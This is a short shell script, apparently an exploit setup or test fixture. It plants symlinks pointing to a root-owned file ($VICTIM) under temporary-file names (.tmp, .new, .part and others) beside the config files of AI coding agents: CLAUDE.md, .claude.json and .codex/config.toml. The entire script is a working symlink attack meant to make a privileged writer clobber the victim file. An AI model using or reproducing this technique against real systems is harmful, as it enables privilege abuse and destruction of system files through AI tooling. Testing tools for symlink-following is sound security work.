#!/bin/sh
# Leaves a link to a file of root's under the names that a write beside a file might use.
set -eu
mkdir -p "$HOME/.codex"
for file in "$HOME/workspace/CLAUDE.md" "$HOME/.claude.json" "$HOME/.codex/config.toml"; do
  for end in .max-new .max-new.XXXXXX .new .tmp .part; do ln -sfn "$VICTIM" "$file$end"; done
done
